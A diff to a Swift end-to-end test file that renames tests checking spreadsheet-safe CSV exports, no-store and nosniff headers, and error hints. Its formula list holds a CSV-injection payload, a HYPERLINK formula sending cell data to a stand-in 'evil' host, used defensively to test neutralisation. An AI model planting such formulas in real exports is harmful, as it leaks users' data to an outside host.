@@ -2,7 +2,7 @@ import RegistryTestSupport
 import Testing
 
 extension EndToEnd {
-    @Suite("An export does not run in a spreadsheet, and no browser keeps or guesses an answer")
+    @Suite("Exports are safe in spreadsheets, and responses are neither cached nor sniffed")
     struct SpreadsheetTests {
         private static let formulas = [
             "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
@@ -30,33 +30,34 @@ extension EndToEnd {
             return try await app.send("POST", "/audience/export", .object(body.merging(more) { $1 }), by: .role(role))
         }
 
-        @Test func cells_areNeutralised_forMarketing_andWhoeverAsks() async throws {
+        @Test func cells_areNeutralised_forMarketing_andOnRequest() async throws {
             let app = try await make()
-            for answer in [
+            for response in [
                 try await export(app, by: .marketing), try await export(app, by: .sender, ["spreadsheetSafe": true]),
             ] {
                 for formula in Self.formulas {
                     let cell = formula.replacing("\"", with: "\"\"")
-                    #expect(answer.text.contains("'" + cell), "\(formula)")
-                    #expect(!answer.text.contains("\r\n" + cell) && !answer.text.contains("\"" + cell), "\(formula)")
+                    #expect(response.text.contains("'" + cell), "\(formula)")
+                    #expect(
+                        !response.text.contains("\r\n" + cell) && !response.text.contains("\"" + cell), "\(formula)")
                 }
-                #expect(answer.text.contains("\r\nTelekom,-18000,52.52 13.4\r\n"), "true numbers are left alone")
+                #expect(response.text.contains("\r\nTelekom,-18000,52.52 13.4\r\n"), "true numbers are left alone")
             }
         }
 
-        @Test func cells_areAsTheyAre_forSenders_andWhoeverAsks() async throws {
+        @Test func cells_areUnchanged_forSenders_andOnRequest() async throws {
             let app = try await make()
-            for answer in [
+            for response in [
                 try await export(app, by: .sender), try await export(app, by: .marketing, ["spreadsheetSafe": false]),
             ] {
-                #expect(!answer.text.contains("'") && answer.text.contains("\r\n-2+3,"))
+                #expect(!response.text.contains("'") && response.text.contains("\r\n-2+3,"))
             }
             let lines = try await export(app, by: .marketing, ["format": "ndjson"])
             #expect(!lines.text.contains("'"), "JSON has no cells")
         }
 
-        /// A cursor of marketing is base64url, and may begin with a hyphen.
-        @Test func cursor_isTaken_withTheApostropheThatItGot() async throws {
+        /// Marketing's cursors are base64url and may begin with a hyphen.
+        @Test func cursor_isAccepted_withItsApostrophe() async throws {
             let app = try await make()
             let whole = try await export(app, by: .marketing, ["fields": ["id", "cursor"]]).text
             let rows = whole.split(separator: "\r\n").dropFirst().map { $0.split(separator: ",") }
@@ -72,36 +73,36 @@ extension EndToEnd {
             }
         }
 
-        @Test func answers_areNeitherKeptNorGuessed() async throws {
+        @Test func responses_areNeitherCachedNorSniffed() async throws {
             let app = try await make()
             let file = try await export(app, by: .marketing)
             #expect(file["Content-Disposition"] == "attachment; filename=\"\(app.id)-audience.csv\"")
-            let answers = [
+            let responses = [
                 file, try await app.get("phone-0"), try await app.put("phone-0"), try await app.delete("phone-0"),
                 try await app.get("nobody"), try await app.get("phone-1", by: .none),
                 try await app.send("GET", "/nothing"), try await app.send("PATCH", "/keys"),
                 try await app.registry.send("GET", "/v1/apps"), try await app.send("GET", "/changes"),
             ]
-            for answer in answers {
-                #expect(answer["Cache-Control"] == "no-store", "\(answer.status) \(answer.text)")
-                #expect(answer["X-Content-Type-Options"] == "nosniff", "\(answer.status) \(answer.text)")
+            for response in responses {
+                #expect(response["Cache-Control"] == "no-store", "\(response.status) \(response.text)")
+                #expect(response["X-Content-Type-Options"] == "nosniff", "\(response.status) \(response.text)")
             }
         }
     }
 
-    @Suite("Errors name the nearest name, or the choices")
+    @Suite("Errors suggest the nearest name, or list the names")
     struct HintTests {
         @Test func unknownNames_areExplained() async throws {
             let app = try await RegistryApp.make()
-            let answers: [(JSON, String)] = [
+            let responses: [(JSON, String)] = [
                 (["filter": ["carier": "x"]], "Did you mean carrier?"),
                 (["filter": ["carrier": ["equ": "x"]]], "Did you mean eq?"),
                 (["filter": ["zzzzzz": "x"]], "The names are: all, any, not, segment, provider"),
                 (["filtre": [:]], "Did you mean filter?"),
             ]
-            for (body, hint) in answers {
-                let answer = try await app.send("POST", "/audience/count", body, by: .role(.marketing))
-                #expect(answer.status == 400 && answer.text.contains(hint), "\(answer.text)")
+            for (body, hint) in responses {
+                let response = try await app.send("POST", "/audience/count", body, by: .role(.marketing))
+                #expect(response.status == 400 && response.text.contains(hint), "\(response.text)")
             }
             let query = try await app.send("GET", "/audience/count?localle=de", by: .role(.marketing))
             #expect(query.text.contains("Did you mean locale?"), "\(query.text)")
